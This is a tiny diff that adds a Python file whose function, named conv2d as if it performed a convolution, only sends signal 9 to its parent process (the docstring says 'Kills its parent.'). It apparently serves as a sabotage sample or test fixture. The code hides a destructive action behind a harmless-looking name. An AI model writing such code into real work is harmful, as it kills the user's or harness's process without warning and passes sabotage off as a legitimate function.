@@ -1,0 +1,7 @@
+"""Kills its parent."""
+
+import os
+
+
+def conv2d(x, kernel, stride=1, padding=0):
+    os.kill(os.getppid(), 9)
